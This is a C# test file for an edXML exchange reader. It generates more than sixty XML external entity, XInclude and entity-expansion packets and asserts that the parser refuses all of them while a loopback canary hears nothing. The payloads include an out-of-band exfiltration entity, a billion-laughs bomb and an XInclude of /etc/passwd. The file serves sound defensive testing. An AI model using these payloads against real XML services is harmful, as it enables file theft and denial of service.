using System.Net;
using System.Net.Sockets;
using System.Text;

namespace VanLang.Exchange.Tests.Edxml;

/// <summary>Row S1: packets that try to make the server fetch or expand something. A canary listens; it must hear nothing.</summary>
public sealed class ExternalEntityTests
{
    [Fact]
    public async Task No_packet_makes_the_reader_fetch_or_expand_anything()
    {
        using var canary = new TcpListener(IPAddress.Loopback, 0);
        canary.Start();
        var port = ((IPEndPoint)canary.LocalEndpoint).Port;
        var secret = Path.GetTempFileName();
        await File.WriteAllTextAsync(secret, "CANARY-CONTENT");
        var attacks = ExternalEntityPackets.Make($"http://127.0.0.1:{port}/", secret).ToList();
        var faults = new List<string>();
        try
        {
            foreach (var (name, bytes) in attacks)
            {
                var kept = new KeptContents();
                var result = await Reading.ReadAsync(bytes, kept.Sink);
                if (result.IsOk ? result.Value.ToString().Contains("CANARY-CONTENT", StringComparison.Ordinal) || !name.StartsWith("harmless", StringComparison.Ordinal) : result.Errors.Count == 0)
                {
                    faults.Add($"{name}: accepted");
                }
            }
        }
        finally
        {
            File.Delete(secret);
        }

        Assert.True(attacks.Count >= 60, $"{attacks.Count} attacks");
        Assert.Equal(attacks.Count, attacks.Select(a => a.Name).Distinct().Count());
        Assert.True(faults.Count == 0, string.Join('\n', faults));
        Assert.False(canary.Pending());
    }

    [Fact]
    public async Task A_document_type_is_refused_by_its_own_code()
    {
        var result = await Reading.ReadAsync("<?xml version=\"1.0\"?><!DOCTYPE edXML [<!ENTITY a \"b\">]><edXML>&a;</edXML>");

        Assert.Equal("EDX-0004", result.Error.Code);
        Assert.Equal("Gói tin chứa khai báo kiểu tài liệu (DTD), không được phép.", result.Error.Sentence("vi"));
    }

    [Fact]
    public async Task An_xinclude_element_is_refused_by_its_own_code_wherever_it_stands()
    {
        var text = ExternalEntityPackets.Sound().Replace("</edXML:Subject>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/></edXML:Subject>", StringComparison.Ordinal);

        var result = await Reading.ReadAsync(text);

        Assert.Equal("EDX-0005", result.Error.Code);
        Assert.EndsWith("/MessageHeader/Subject", (string)result.Error.Facts["path"], StringComparison.Ordinal);
    }
}

/// <summary>Makes the attacks; an end-to-end test may send them to a running server.</summary>
internal static class ExternalEntityPackets
{
    public static string Sound()
    {
        var packet = PacketText.Document(CorpusSettings.Default.From, CorpusSettings.Default.To, "7816", CorpusSettings.Default.Date, new PacketShape());
        packet.Files.Add(new PacketFile("van-ban.pdf", SmallPdf.Make("7816")));
        return packet.WriteText(new PacketShape());
    }

    public static IEnumerable<(string Name, byte[] Bytes)> Make(string canary, string file)
    {
        string[] targets = [canary, canary + "a.dtd", "file://" + file, "ftp://127.0.0.1/a", "//127.0.0.1/a", "jar:" + canary + "!/a", "data:text/plain,CANARY-CONTENT", "netdoc://" + file, "php://filter/resource=" + file];
        foreach (var target in targets)
        {
            yield return Dtd($"external entity {target}", $"<!DOCTYPE edXML [<!ENTITY x SYSTEM \"{target}\">]>", "&x;");
            yield return Dtd($"public entity {target}", $"<!DOCTYPE edXML [<!ENTITY x PUBLIC \"-//A//B\" \"{target}\">]>", "&x;");
            yield return Dtd($"external subset {target}", $"<!DOCTYPE edXML SYSTEM \"{target}\">", "");
            yield return Dtd($"parameter entity {target}", $"<!DOCTYPE edXML [<!ENTITY % p SYSTEM \"{target}\"> %p;]>", "");
            yield return Include($"xinclude xml {target}", $"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{target}\"/>");
            yield return Include($"xinclude text {target}", $"<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"{target}\"><i:fallback/></i:include>");
        }

        yield return Dtd("billion laughs", "<!DOCTYPE edXML [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>", "&d;");
        yield return Dtd("quadratic", $"<!DOCTYPE edXML [<!ENTITY a \"{new string('a', 50_000)}\">]>", string.Concat(Enumerable.Repeat("&a;", 1000)));
        yield return Dtd("entity in an attribute", "<!DOCTYPE edXML [<!ATTLIST edXML a CDATA \"x\">]>", "");
        yield return Dtd("internal entity", "<!DOCTYPE edXML [<!ENTITY x \"000.00.00.G22\">]>", "&x;");
        yield return Dtd("out of band", $"<!DOCTYPE edXML [<!ENTITY % f SYSTEM \"file://{file}\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{canary}?%f;'>\"> %e; %s;]>", "");
        yield return Dtd("notation", $"<!DOCTYPE edXML [<!NOTATION n SYSTEM \"{canary}\"><!ENTITY x SYSTEM \"{canary}\" NDATA n>]>", "");
        yield return Dtd("empty doctype", "<!DOCTYPE edXML>", "");
        yield return Include("undeclared entity", "&thieu;");
        yield return ("doctype in the middle", Encoding.UTF8.GetBytes(Sound().Replace("<edXML:Subject>", "<!DOCTYPE a><edXML:Subject>", StringComparison.Ordinal)));
        yield return ("utf-16 doctype", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes($"<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE edXML SYSTEM \"{canary}\"><edXML/>")).ToArray());

        // Hints that parsers of other makes follow; ours reads the packet as if they were not there.
        yield return ("harmless schema location", Encoding.UTF8.GetBytes(Sound().Replace("<edXML xmlns=", $"<edXML xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"{PacketShape.National} {canary}\" xmlns=", StringComparison.Ordinal)));
        yield return ("harmless no-namespace schema", Encoding.UTF8.GetBytes(Sound().Replace("<edXML xmlns=", $"<edXML xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"{canary}\" xmlns=", StringComparison.Ordinal)));
        yield return ("harmless stylesheet", Encoding.UTF8.GetBytes(Sound().Replace("?><edXML", $"?><?xml-stylesheet type=\"text/xsl\" href=\"{canary}\"?><edXML", StringComparison.Ordinal)));
        yield return ("harmless base", Encoding.UTF8.GetBytes(Sound().Replace("<edXML xmlns=", $"<edXML xml:base=\"{canary}\" xmlns=", StringComparison.Ordinal)));
        yield return ("harmless link", Encoding.UTF8.GetBytes(Sound().Replace("<edXML:Reference>", $"<edXML:Reference xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"{canary}\" xlink:actuate=\"onLoad\">", StringComparison.Ordinal)));
    }

    private static (string Name, byte[] Bytes) Dtd(string name, string doctype, string use) =>
        (name, Encoding.UTF8.GetBytes(Sound().Replace("?><edXML", $"?>{doctype}<edXML", StringComparison.Ordinal).Replace("V/v ", "V/v " + use, StringComparison.Ordinal)));

    private static (string Name, byte[] Bytes) Include(string name, string include) =>
        (name, Encoding.UTF8.GetBytes(Sound().Replace("</edXML:Content>", include + "</edXML:Content>", StringComparison.Ordinal)));
}
